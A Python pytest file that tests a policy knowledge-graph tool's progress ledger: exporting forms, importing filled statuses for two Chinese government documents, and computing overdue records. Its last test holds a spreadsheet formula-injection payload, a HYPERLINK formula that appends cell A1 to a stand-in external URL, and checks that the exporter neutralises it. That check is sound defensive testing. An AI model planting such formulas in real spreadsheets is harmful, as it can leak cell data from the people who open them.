"""The progress ledger round trip (issue 19, item 2-4): export → fill (scripted here) → import → overdue.

The corpus is two bundled documents (包头 2022 and 国发〔2018〕39号). The filled statuses are written
below; the expected overdue lists are worked out by hand from the due dates of
tests/gold/due_dates.json (read off the documents) and those statuses — never from the code.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil
from pathlib import Path

import pytest

from policykg.cli import main

ROOT = Path(__file__).resolve().parents[1]
BAOTOU = "01_baotou_digital_gov_assessment_2022"
GUOFA = "05_guofa_2018_39_employment"
GOLD = {r["record"]: r for r in json.loads((ROOT / "tests/gold/due_dates.json").read_text(encoding="utf-8"))["records"]
        if r["doc"] == BAOTOU}

# First report, as of 2022-06-10 (XLSX): record → status written by the unit.
FIRST = {"record/9": "已完成", "record/86": "推进中", "record/1": "已完成", "record/12": "滞后",
         "record/6": "done", "record/57": "in progress", "record/5": "未启动"}
# Second report, as of 2022-07-10 (CSV).
SECOND = {"record/86": "已完成", "record/12": "申请延期", "record/57": "已完成", "record/11": "Completed",
          "record/3": "滞后"}

# By hand. Gold due dates before 2022-06-15: record/9 (03-31), 86 (04-30), 1, 12, 19, 2, 31, 6, 66 (05-31).
# Done by 06-15 (first report only): 9, 1, 6.
OVERDUE_0615 = {"record/86", "record/12", "record/19", "record/2", "record/31", "record/66"}
# Before 2022-07-15 also every 06-30 record: 57 72 14 76 77 46 25 26 69 7 11 17 20 3 32 35 36 38 4 42 54 55 71.
# Done by 07-15: 9, 1, 6 (first); 86, 57, 11 (second).
OVERDUE_0715 = {"record/12", "record/19", "record/2", "record/31", "record/66",
                "record/72", "record/14", "record/76", "record/77", "record/46", "record/25", "record/26",
                "record/69", "record/7", "record/17", "record/20", "record/3", "record/32", "record/35",
                "record/36", "record/38", "record/4", "record/42", "record/54", "record/55", "record/71"}


@pytest.fixture(scope="module")
def out(tmp_path_factory):
    from policykg.kg.corpus import build_corpus
    from policykg.use.ledger import build_progress
    src = tmp_path_factory.mktemp("src")
    for doc in (BAOTOU, GUOFA):
        shutil.copy(ROOT / "sources/dev" / f"{doc}.txt", src)
    target = tmp_path_factory.mktemp("built") / "graph"
    build_corpus([src], target, jobs=2, analysis=False, ledgers=build_progress)
    return target


def _cli(*args) -> int:
    return main([str(a) for a in args])


def _overdue(out: Path, as_of: str, doc: str = BAOTOU) -> dict[str, dict]:
    from policykg.kg.store import open_graph, release
    from policykg.use.followup import follow_up
    rows = follow_up(open_graph(str(out)), "overdue", as_of, doc=doc)
    release()
    return {r["record"]: r for r in rows}


def _fill_xlsx(form: Path, filled: Path, statuses: dict, as_of: str) -> None:
    from openpyxl import load_workbook
    book = load_workbook(form)
    sheet = book.active
    head = [c.value for c in sheet[1]]
    rec, doc, st, day = (head.index(h) for h in ("记录编号 / record id", "文件 / document", "状态 / status",
                                                  "截至日期 / as-of date"))
    for row in sheet.iter_rows(min_row=2):
        if row[doc].value == BAOTOU and row[rec].value in statuses:
            row[st].value, row[day].value = statuses[row[rec].value], as_of
    book.save(filled)


def _quads(out: Path) -> bytes:
    return (out / "corpus.nq").read_bytes()


def test_round_trip(out, tmp_path, capsys):
    # export: the form's header, frozen, the statuses' list in Chinese and English, widths for Chinese
    form = tmp_path / "form.xlsx"
    assert _cli("ledger", "export", "--graph", out, "--out", form) == 0
    from openpyxl import load_workbook
    sheet = load_workbook(form).active
    assert sheet.freeze_panes == "B2"
    check = sheet.data_validations.dataValidation[0]
    for status in ("未启动", "推进中", "已完成", "滞后", "申请延期", "已延期", "not started", "done", "extended"):
        assert status in check.formula1
    assert sheet.column_dimensions["C"].width >= 40
    ids = {(r[1].value, r[0].value) for r in sheet.iter_rows(min_row=2)}
    assert (BAOTOU, "record/86") in ids and (GUOFA, "record/12") in ids

    before = _quads(out)
    # first report (XLSX), as of 2022-06-10
    first = tmp_path / "first.xlsx"
    _fill_xlsx(form, first, FIRST, "2022-06-10")
    assert _cli("ledger", "import", first, "--graph", out) == 0
    after_first = _quads(out)
    assert after_first != before
    assert set(_overdue(out, "2022-06-15")) & set(GOLD) == OVERDUE_0615

    # second report (CSV of the form for one document, no as-of column filled: --as-of)
    csv_form = tmp_path / "form.csv"
    assert _cli("ledger", "export", "--graph", out, "--format", "csv", "--doc", BAOTOU, "--out", csv_form) == 0
    rows = list(csv.reader(io.StringIO(csv_form.read_text(encoding="utf-8-sig"))))
    assert {r[1] for r in rows[1:]} == {BAOTOU}
    for r in rows[1:]:
        if r[0] in SECOND:
            r[7] = SECOND[r[0]]
    second = tmp_path / "second.csv"
    with open(second, "w", encoding="utf-8-sig", newline="") as fh:
        csv.writer(fh).writerows(rows)
    assert _cli("ledger", "import", second, "--graph", out, "--as-of", "2022-07-10", "--doc", BAOTOU) == 0
    overdue = _overdue(out, "2022-07-15")
    assert set(overdue) & set(GOLD) == OVERDUE_0715
    assert overdue["record/12"]["status"] == "申请延期" and overdue["record/3"]["status"] == "滞后"
    assert overdue["record/19"]["status"] == ""                       # never reported
    # history is kept: as of 06-15 the first report still answers
    assert set(_overdue(out, "2022-06-15")) & set(GOLD) == OVERDUE_0615
    for record, row in overdue.items():                               # what the gold dates, it dates the same
        if record in GOLD:
            assert row["due"] == GOLD[record]["due"] and row["due"] < "2022-07-15"

    _check_the_other_questions(out)

    # the same file twice: no triple changes, nothing is written
    snapshot = _quads(out)
    capsys.readouterr()
    assert _cli("ledger", "import", second, "--graph", out, "--as-of", "2022-07-10", "--doc", BAOTOU) == 0
    assert "nothing changed" in capsys.readouterr().out
    assert _quads(out) == snapshot

    # each report its own named graph, with its file's SHA-256
    graphs = {line.rsplit(" ", 2)[-2] for line in snapshot.decode().splitlines() if "/graph/progress/" in line}
    assert len(graphs) == 2
    for f in (first, second):
        digest = hashlib.sha256(f.read_bytes()).hexdigest()
        assert f"<https://w3id.org/policykg/id/graph/progress/{digest[:16]}>" in graphs
        assert f"sha256:{digest}" in snapshot.decode()

    # a rebuild re-applies the kept ledgers: the same progress
    from policykg.kg.corpus import build_corpus
    from policykg.use.ledger import build_progress
    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    sources = sorted({str(Path(d["file"]).parent) for d in manifest["documents"]})
    build_corpus(sources, out, jobs=2, analysis=False, ledgers=build_progress)
    assert set(_overdue(out, "2022-07-15")) & set(GOLD) == OVERDUE_0715


def _run(out: Path, name: str, **params) -> list[dict]:
    from policykg.kg.query import find_query, run_query
    from policykg.kg.store import open_graph, release
    cols, rows = run_query(open_graph(str(out)), find_query(name), params)
    release()
    return [dict(zip(cols, r)) for r in rows]


def _check_the_other_questions(out: Path) -> None:
    """The stored questions after both reports, against what the fill and the documents say."""
    # record/12 (5月底…, 牵头考核单位：市审批服务局): 滞后 on 06-10, 申请延期 on 07-10
    history = _run(out, "status_history", document=BAOTOU, place="record/12")
    assert [(h["as_of"], h["status"], h["report"]) for h in history] == [
        ("2022-06-10", "滞后", "first.xlsx"), ("2022-07-10", "申请延期", "second.csv")]
    # 市审批服务局 leads record/1, 5, 6, 9, 11, 12 of those filled (lines 33-49 of the document);
    # done: 1, 6, 9 (06-10, due 05-31, 05-31, 03-31) and 11 (07-10, due 06-30): all four late
    report = {(r["doc"], r["role"]): r for r in _run(out, "unit_report", unit="市审批服务局", as_of="2022-07-15")}
    lead = report[(BAOTOU, "lead")]
    assert (lead["done"], lead["late"]) == (4, 4)
    assert lead["overdue"] >= 1                         # record/12 at least (asked for an extension)
    # the document as a whole: reported 9, 86, 1, 12, 6, 57, 5, 11, 3; done 9, 1, 6, 86, 57, 11
    rates = {(r["scope"], r["name"]): r for r in _run(out, "completion_rate", as_of="2022-07-15")}
    assert (rates[("document", BAOTOU)]["reported"], rates[("document", BAOTOU)]["done"]) == (9, 6)
    early = {(r["scope"], r["name"]): r for r in _run(out, "completion_rate", as_of="2022-06-15")}
    assert (early[("document", BAOTOU)]["reported"], early[("document", BAOTOU)]["done"]) == (7, 3)
    assert rates[("document", GUOFA)]["reported"] == 0
    # never reported: 国发〔2018〕39号's 各省级人民政府 (record/12: 各省级人民政府负责); not the units that did
    silent = {r["name"] for r in _run(out, "units_never_reported")}
    assert "各省级人民政府" in silent
    assert not silent & {"市审批服务局", "市工信局", "市政府办公室", "市委组织部"}


def test_one_bad_row_imports_nothing_and_names_it(out, tmp_path, capsys):
    form = tmp_path / "form.xlsx"
    assert _cli("ledger", "export", "--graph", out, "--out", form, "--doc", BAOTOU) == 0
    filled = tmp_path / "bad.xlsx"
    _fill_xlsx(form, filled, {"record/43": "已完成", "record/47": "差不多完成", "record/58": "推进中"}, "2022-08-01")
    before = _quads(out)
    capsys.readouterr()
    assert _cli("ledger", "import", filled, "--graph", out) == 2
    err = capsys.readouterr().err
    from openpyxl import load_workbook
    row = next(r[0].row for r in load_workbook(filled).active.iter_rows(min_row=2) if r[0].value == "record/47")
    assert f"row {row}: unknown status '差不多完成'" in err
    assert err.count("row ") == 1 and "nothing imported" in err
    assert _quads(out) == before
    assert not (out / "ledgers" / "bad.xlsx").exists()


@pytest.mark.parametrize("cell,value,problem", [
    (0, "record/999", "unknown record id"),
    (11, "2022-02-30", "is not a date"),
])
def test_bad_rows_of_each_kind(out, tmp_path, capsys, cell, value, problem):
    form = tmp_path / "form.xlsx"
    assert _cli("ledger", "export", "--graph", out, "--out", form, "--doc", BAOTOU) == 0
    from openpyxl import load_workbook
    book = load_workbook(form)
    row = book.active[5]
    row[7].value, row[11].value = "推进中", "2022-08-01"
    row[cell].value = value
    book.save(tmp_path / "bad.xlsx")
    before = _quads(out)
    capsys.readouterr()
    assert _cli("ledger", "import", tmp_path / "bad.xlsx", "--graph", out) == 2
    assert f"row 5: " in capsys.readouterr().err
    assert _quads(out) == before


def test_a_record_of_another_document(out, tmp_path, capsys):
    form = tmp_path / "form.csv"
    assert _cli("ledger", "export", "--graph", out, "--format", "csv", "--out", form) == 0
    rows = list(csv.reader(io.StringIO(form.read_text(encoding="utf-8-sig"))))
    for r in rows[1:]:
        if (r[1], r[0]) in ((GUOFA, "record/12"), (BAOTOU, "record/43")):
            r[7], r[11] = "推进中", "2022-08-01"
    bad = tmp_path / "other.csv"
    bad.write_text("\ufeff" + "".join(",".join(f'"{c}"' for c in r) + "\n" for r in rows), encoding="utf-8")
    line = next(i for i, r in enumerate(rows, start=1) if r[1] == BAOTOU and r[0] == "record/43")
    capsys.readouterr()
    assert _cli("ledger", "import", bad, "--graph", out, "--doc", GUOFA) == 2
    err = capsys.readouterr().err
    assert f"row {line}: record {BAOTOU}:record/43 is of another document" in err
    # --partial: the good row goes in, the bad one is listed
    assert _cli("ledger", "import", bad, "--graph", out, "--doc", GUOFA, "--partial") == 0
    assert "left out" in capsys.readouterr().err


def test_status_prints_both_lists_and_exits_0(out, capsys):
    capsys.readouterr()
    assert _cli("status", "--graph", out, "--as-of", "2022-06-15", "--doc", BAOTOU) == 0
    text = capsys.readouterr().out
    assert "overdue as of 2022-06-15" in text and "due within 30 days" in text
    lines = [l for l in text.splitlines() if "record/19 " in l or "record/2 " in l]
    assert lines
    from policykg.use.answers import display_width
    heads = [l for l in text.splitlines() if "记录 record" in l]
    # CJK-aligned: the due column starts at the same display column in the header and in each row
    col = display_width(heads[0][:heads[0].index("完成日期")])
    assert all(display_width(l[:l.index("2022-")]) == col for l in lines)


@pytest.mark.browser
def test_dashboard_offline_shows_the_queries_counts(out, tmp_path_factory):
    """The dashboard an import wrote: no request leaves the page, and per document its records, red,
    amber and green counts are what completion_rate, overdue and due_soon answer for its date."""
    import importlib.util
    import os
    from urllib.parse import urlsplit
    spec = importlib.util.spec_from_file_location("policykg_test_browser_ledger", Path(__file__).with_name("browser.py"))
    helper = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(helper)
    if not helper.CHROMIUM.exists():
        if os.environ.get("CI"):
            pytest.fail(f"CI is set but {helper.CHROMIUM} is missing")
        pytest.skip(f"{helper.CHROMIUM} not installed")
    with helper.Chromium(tmp_path_factory.mktemp("dash"), window=(1400, 900), timeout=30) as browser:
        page = browser.open_page()
        page.navigate((out / "dashboard.html").as_uri())
        page.wait_for("document.querySelectorAll('#by-doc tr[data-name]').length > 0")
        as_of = page.evaluate("document.getElementById('asof').textContent")
        shown = page.evaluate("""Object.fromEntries([...document.querySelectorAll('#by-doc tr[data-name]')].map(tr =>
            [tr.dataset.name, Object.fromEntries([...tr.querySelectorAll('td[data-count]')].map(td =>
                [td.dataset.count, +td.textContent]))]))""")
        links = page.evaluate("[...document.querySelectorAll('#records a')].map(a => a.getAttribute('href'))")
        urls = page.request_urls()
    assert urls and all(urlsplit(u).scheme in {"file", "data", "about"} for u in urls), urls
    assert as_of == "2022-08-01"        # the latest report's date: the --partial import above
    rates = {r["name"]: r for r in _run(out, "completion_rate", as_of=as_of) if r["scope"] == "document"}
    for doc in (BAOTOU, GUOFA):
        overdue = _run(out, "overdue", as_of=as_of, document=doc)
        soon = _run(out, "due_soon", as_of=as_of, document=doc, days="30")
        assert shown[doc]["records"] == rates[doc]["records"]
        assert shown[doc]["green"] == rates[doc]["done"]
        assert shown[doc]["red"] == len(overdue) == rates[doc]["overdue"]
        assert shown[doc]["amber"] == len(soon)
        assert shown[doc]["已完成"] == rates[doc]["done"]
    assert shown[BAOTOU]["red"] > 10 and shown[BAOTOU]["green"] >= 6
    assert f"docs/{BAOTOU}/source.html#record/12" in links


def test_progress_graphs_conform_to_the_shapes(out, tmp_path):
    """Every progress report and status update written passes shapes.ttl (one more import here, with notes)."""
    import pyshacl
    import rdflib
    form = tmp_path / "form.xlsx"
    assert _cli("ledger", "export", "--graph", out, "--out", form, "--doc", BAOTOU) == 0
    from openpyxl import load_workbook
    book = load_workbook(form)
    for row in list(book.active.iter_rows(min_row=2))[:3]:
        row[7].value, row[8].value, row[9].value, row[10].value, row[11].value = (
            "推进中", "正在推进", "方案.pdf", "综合科", "2022-09-01")
    book.save(tmp_path / "notes.xlsx")
    assert _cli("ledger", "import", tmp_path / "notes.xlsx", "--graph", out) == 0
    lines = [l for l in _quads(out).decode("utf-8").splitlines() if "/graph/progress/" in l]
    graph = rdflib.Graph()
    graph.parse(data="".join(l.rsplit(" ", 2)[0] + " .\n" for l in lines), format="nt")   # the graph name dropped
    assert len(graph) >= 30
    graph.parse(ROOT / "ontology.ttl")                 # the statuses are individuals of pkg:ProgressStatus
    conforms, _, text = pyshacl.validate(graph, shacl_graph=str(ROOT / "shapes.ttl"), inference="none")
    assert conforms, text
    # and a broken update is caught: no status
    update = next(s for s in graph.subjects(rdflib.RDF.type, rdflib.URIRef("https://w3id.org/policykg/ontology#StatusUpdate")))
    graph.remove((update, rdflib.URIRef("https://w3id.org/policykg/ontology#status"), None))
    assert not pyshacl.validate(graph, shacl_graph=str(ROOT / "shapes.ttl"), inference="none")[0]


def test_the_form_keeps_text_as_text(tmp_path, monkeypatch):
    """A record whose text starts like a formula stays a string cell in the XLSX and gets a ' in the CSV."""
    from openpyxl import load_workbook

    from policykg.use import ledger
    rows = [{"record": "record/1", "doc": "d", "text": '=HYPERLINK("http://x.example/"&A1,"点击")', "lead": "@市发改局",
             "co": "", "deadline": "-", "due": "2025-12-31"}]
    ledger._write_xlsx(rows, tmp_path / "f.xlsx")
    sheet = load_workbook(tmp_path / "f.xlsx").active
    assert sheet["C2"].data_type == "s" and sheet["C2"].value.startswith("=HYPERLINK")
    assert sheet["D2"].data_type == "s"
    text = ledger._csv_text(rows)
    assert "'=HYPERLINK" in text and "'@市发改局" in text
    assert ledger.status_code(" Extension Requested ") == "extension-requested"
    assert ledger.status_code("已办结") == "done" and ledger.status_code("差不多") is None
    assert ledger.parse_date("2025年6月30日") == "2025-06-30" and ledger.parse_date("2025-02-30") is None
